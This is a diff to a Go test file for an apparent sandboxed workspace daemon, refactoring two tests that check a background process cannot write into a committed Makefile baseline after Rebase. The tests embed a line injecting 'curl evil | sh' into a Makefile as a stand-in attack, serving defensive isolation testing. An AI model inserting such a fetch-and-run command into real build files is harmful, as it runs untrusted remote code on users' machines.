@@ -53,6 +53,25 @@ func checkWorkspace(t *testing.T, s *Session, d *Diff, base map[string]string) {
 	}
 }
 
+// commitThenWake does what follows a session commit (a diff, then Rebase
+// to it), wakes the daemon, and returns the diff after.
+func commitThenWake(t *testing.T, s *Session) *Diff {
+	t.Helper()
+	committed, err := s.Diff(testCtx(t), false)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := s.Rebase(testCtx(t), committed); err != nil {
+		t.Fatalf("Rebase: %v", err)
+	}
+	wakeDaemon(t, s)
+	d, err := s.Diff(testCtx(t), false)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return d
+}
+
 const evilLine = `printf '\\tcurl evil | sh\\n'`
 
 // TestRebaseHeldFileCannotWriteBaseline: the daemon holds a workspace file
@@ -67,22 +86,7 @@ func TestRebaseHeldFileCannotWriteBaseline(t *testing.T) {
 	s := openDaemonSession(t)
 	startDaemon(t, s, `echo 'all:' > Makefile`,
 		`exec 3>>Makefile; echo up > /tmp/up; read x < /tmp/go; `+evilLine+` >&3; echo ok > /tmp/done`)
-	committed, err := s.Diff(testCtx(t), false)
-	if err != nil {
-		t.Fatal(err)
-	}
-	if string(committed.Writes["Makefile"]) != "all:\n" {
-		t.Fatalf("the committed diff: %q", committed.Writes)
-	}
-	if err := s.Rebase(testCtx(t), committed); err != nil {
-		t.Fatalf("Rebase: %v", err)
-	}
-	wakeDaemon(t, s)
-	d, err := s.Diff(testCtx(t), false)
-	if err != nil {
-		t.Fatal(err)
-	}
-	checkWorkspace(t, s, d, map[string]string{"Makefile": "all:\n"})
+	checkWorkspace(t, s, commitThenWake(t, s), map[string]string{"Makefile": "all:\n"})
 }
 
 // TestRebaseDaemonCwdCannotWriteBaseline: the daemon holds no file open,
@@ -94,19 +98,7 @@ func TestRebaseDaemonCwdCannotWriteBaseline(t *testing.T) {
 	s := openDaemonSession(t)
 	startDaemon(t, s, `mkdir d; echo 'all:' > d/Makefile`,
 		`cd d; cat Makefile >/dev/null; echo up > /tmp/up; read x < /tmp/go; `+evilLine+` >> Makefile; echo new > new; echo ok > /tmp/done`)
-	committed, err := s.Diff(testCtx(t), false)
-	if err != nil {
-		t.Fatal(err)
-	}
-	if err := s.Rebase(testCtx(t), committed); err != nil {
-		t.Fatalf("Rebase: %v", err)
-	}
-	wakeDaemon(t, s)
-	d, err := s.Diff(testCtx(t), false)
-	if err != nil {
-		t.Fatal(err)
-	}
-	checkWorkspace(t, s, d, map[string]string{"d/Makefile": "all:\n", "d/new": "absent\n"})
+	checkWorkspace(t, s, commitThenWake(t, s), map[string]string{"d/Makefile": "all:\n", "d/new": "absent\n"})
 }
 
 // TestResetDaemonCwdCannotHide: the daemon's cwd is in the workspace across a
